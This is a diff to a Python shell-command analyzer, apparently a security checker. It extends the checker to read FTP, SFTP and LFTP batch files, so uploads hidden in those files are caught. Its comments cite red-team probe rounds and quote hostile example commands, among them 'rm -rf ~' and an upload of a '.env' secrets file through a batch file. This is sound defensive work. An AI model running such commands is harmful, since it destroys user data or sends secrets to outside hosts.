@@ -2264,6 +2264,8 @@ _TRANSFER_PUT = re.compile(r"^[ \t]*[-@]*[ \t]*((?:m?put|reput|append|send|mirro
 _TRANSFER_RECURSIVE = re.compile(r"[ \t]-[A-Za-z]*[rR]")
 _TRANSFER_CLIENTS = frozenset({"ftp", "sftp", "lftp", "smbclient", "tnftp", "ncftp", "cadaver", "yafc", "pftp",
                                "netkit-ftp"})
+# (their options naming a batch file of such command lines)
+_COMMAND_FILE_OPTS = {"sftp": ("-b",), "lftp": ("-f",)}
 _COMMAND_CODE_LINE = {"gdb": re.compile(r"(?m)^[ \t]*(?:python3?|py|pi|python-interactive|guile|gu)\b"),
                       "lldb": re.compile(r"(?m)^[ \t]*(?:script|scr\w*)\b")}
 # their options whose value is such a command line (lftp -c/-e, smbclient -c, lldb -o/-O ...)
@@ -13276,6 +13278,21 @@ class _Analyzer:
         if stdin is not None and (stdin.text or stdin.partial):
             # (what is known of a stream: published7's ftp host < <(echo '!rm -rf ~'; cat x))
             texts.append(stdin.text or stdin.partial)
+        elif stdin is not None and stdin.file and (self.abs_path(_static(stdin.file)) or "") in self.script_texts:
+            # (probe round 42, redteam42) a batch file written earlier in this command and
+            # fed on standard input: echo 'put .env' > b; ftp host < b
+            texts.append(self.script_texts[self.abs_path(_static(stdin.file)) or ""])
+        batch = _COMMAND_FILE_OPTS.get(name, ())
+        for i, w in enumerate(args[:-1]):
+            if batch and w.exact and w.value in batch:
+                # (probe round 42, redteam42) sftp -b FILE, lftp -f FILE: a batch file whose
+                # text is known (written earlier in this command, -/<(...) as awk -f's)
+                fw = args[i + 1]
+                known = self.program_file_text(fw, stdin, " ".join([name] + [a.value for a in args]))
+                if known is None and fw.exact and not fw.procsub:
+                    known = self.script_texts.get(self.abs_path(fw) or "")
+                if known:
+                    texts.append(known)
         code_line = _COMMAND_CODE_LINE.get(name)
         for t in texts:
             if len(t) > 100_000:
